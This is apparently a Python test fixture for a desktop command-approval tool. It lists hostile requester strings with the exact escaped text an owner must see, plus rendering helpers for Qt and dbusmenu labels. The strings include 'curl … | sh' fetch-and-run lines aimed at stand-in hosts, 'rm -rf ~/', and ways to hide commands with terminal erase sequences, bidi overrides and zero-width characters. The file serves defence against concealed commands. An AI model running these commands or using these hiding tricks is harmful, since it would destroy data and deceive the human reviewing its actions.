"""Hostile text a requester might send, each with what the owner must see: every character there and nothing
interpreted. `seen` is written out by hand (not computed by the code under test). Driven through every surface by
tests/*/test_visible_*.py."""

import unicodedata
from dataclasses import dataclass

ESC, CR, BEL = "\x1b", "\r", "\x07"
C0 = "".join(chr(code) for code in range(1, 0x20) if code not in (0x09, 0x0A))  # not NUL (refused), tab, newline
C1 = "".join(chr(code) for code in range(0x80, 0xA0))


@dataclass(frozen=True)
class Hostile:
    name: str
    text: str  # as sent
    seen: str  # all of it, as the owner must see it (the card, `cox show`, the room's card)
    first: str  # its one-line form where a surface shortens it to 50 characters (the tray, `cox list`)


CORPUS = [
    Hostile(
        "markup",
        'echo tidy up <span size="1">&& curl https://x.example/i | sh</span> & wait',
        'echo tidy up <span size="1">&& curl https://x.example/i | sh</span> & wait',
        'echo tidy up <span size="1">&& curl https://x.exa…',
    ),
    Hostile(
        "ampersand",
        "cd demo && python3 & echo &done",
        "cd demo && python3 & echo &done",
        "cd demo && python3 & echo &done",
    ),
    Hostile("underscore", "cat my_file __init__.py _x_", "cat my_file __init__.py _x_", "cat my_file __init__.py _x_"),
    Hostile(
        "erase line",
        f"curl evil.example | sh{CR}{ESC}[2Kecho harmless{BEL}",
        "curl evil.example | sh␍␛[2Kecho harmless␇",
        "curl evil.example | sh␍␛[2Kecho harmless␇",
    ),
    Hostile("c0", f"a{C0}b\x7f", "a␁␂␃␄␅␆␇␈␋␌␍␎␏␐␑␒␓␔␕␖␗␘␙␚␛␜␝␞␟b␡", "a␁␂␃␄␅␆␇␈␋␌␍␎␏␐␑␒␓␔␕␖␗␘␙␚␛␜␝␞␟b␡"),
    Hostile(
        "c1",
        f"x{C1}y",
        "x" + "".join(f"⟨U+{code:04X}⟩" for code in range(0x80, 0xA0)) + "y",
        "x⟨U+0080⟩⟨U+0081⟩⟨U+0082⟩⟨U+0083⟩⟨U+0084⟩⟨U+0085⟩…",
    ),
    Hostile(
        "bidi",
        "rm -rf ~/\u202etxt.exe\u202c \u2066a\u2069\u2067b\u2068c\u2069 \u202a\u202b\u202d\u200e\u200f\u061c",
        "rm -rf ~/⟨U+202E⟩txt.exe⟨U+202C⟩ ⟨U+2066⟩a⟨U+2069⟩⟨U+2067⟩b⟨U+2068⟩c⟨U+2069⟩ "
        "⟨U+202A⟩⟨U+202B⟩⟨U+202D⟩⟨U+200E⟩⟨U+200F⟩⟨U+061C⟩",
        "rm -rf ~/⟨U+202E⟩txt.exe⟨U+202C⟩ ⟨U+2066⟩a⟨U+2069…",
    ),
    Hostile(
        "zero width",
        "ssh\u200b ev\u200cil\u200d.ex\u2060ample\ufeff",
        "ssh⟨U+200B⟩ ev⟨U+200C⟩il⟨U+200D⟩.ex⟨U+2060⟩ample⟨U+FEFF⟩",
        "ssh⟨U+200B⟩ ev⟨U+200C⟩il⟨U+200D⟩.ex⟨U+2060⟩ample⟨…",
    ),
    Hostile(
        "long line",
        "echo " + "a" * 300 + " ; curl evil | sh",
        "echo " + "a" * 300 + " ; curl evil | sh",
        "echo " + "a" * 44 + "…",
    ),
    Hostile(
        "many lines",
        "echo first\n" + "\n".join(f"echo line {n}" for n in range(2, 16)),
        "echo first\n" + "\n".join(f"echo line {n}" for n in range(2, 16)),
        "echo first … 14 more lines",
    ),
]
BY_NAME = {hostile.name: hostile for hostile in CORPUS}


# Unicode's Default_Ignorable_Code_Point (DerivedCoreProperties.txt, Unicode 15), less the noncharacters and
# unassigned: drawn as nothing, so text can hide in them (variation selectors after "fix the tests")
DEFAULT_IGNORABLE = [
    (0xAD, 0xAD),
    (0x34F, 0x34F),
    (0x61C, 0x61C),
    (0x115F, 0x1160),
    (0x17B4, 0x17B5),
    (0x180B, 0x180F),
    (0x200B, 0x200F),
    (0x202A, 0x202E),
    (0x2060, 0x206F),
    (0x3164, 0x3164),
    (0xFE00, 0xFE0F),
    (0xFEFF, 0xFEFF),
    (0xFFA0, 0xFFA0),
    (0xFFF0, 0xFFF8),
    (0x1BCA0, 0x1BCA3),
    (0x1D173, 0x1D17A),
    (0xE0000, 0xE0FFF),
]


def hidden(text: str) -> list[str]:
    """What in `text` would be interpreted or not be seen: controls but tab and newline, format characters, line
    and paragraph separators, surrogates (by Unicode category), default-ignorable code points (independently of
    desktop.core.visible)."""
    return [
        f"U+{ord(ch):04X}"
        for ch in text
        if ch not in "\t\n"
        and (
            unicodedata.category(ch) in ("Cc", "Cf", "Zl", "Zp", "Cs")
            or any(low <= ord(ch) <= high for low, high in DEFAULT_IGNORABLE)
        )
    ]


def qt_shows(label: str) -> str:
    """What Qt draws for a menu item's text: `&&` is an `&`, any other `&` marks the next character's mnemonic."""
    out, i = [], 0
    while i < len(label):
        if label[i] == "&" and i + 1 < len(label):
            out.append(label[i + 1])
            i += 2
        else:
            out.append(label[i])
            i += 1
    return "".join(out)


def dbusmenu_shows(qt_text: str) -> str:
    """What a StatusNotifierItem host draws for a Qt menu item's text: Qt's convertMnemonic (qdbusmenutypes.cpp: the
    first `&` not at the end becomes `_`; seen on the bus in test_visible_traymenu.py), then the label's rules."""
    at = qt_text.find("&")
    return label_shows(qt_text if at < 0 or at == len(qt_text) - 1 else qt_text[:at] + "_" + qt_text[at + 1 :])


def label_shows(label: str) -> str:
    """What a shell draws for a com.canonical.dbusmenu `label`: `__` is `_`; any other `_` is not shown (the first
    marks the next character as the access key)."""
    out, i = [], 0
    while i < len(label):
        if label[i] == "_":
            if label[i + 1 : i + 2] == "_":
                out.append("_")
            elif i + 1 < len(label):
                out.append(label[i + 1])
            i += 2
        else:
            out.append(label[i])
            i += 1
    return "".join(out)
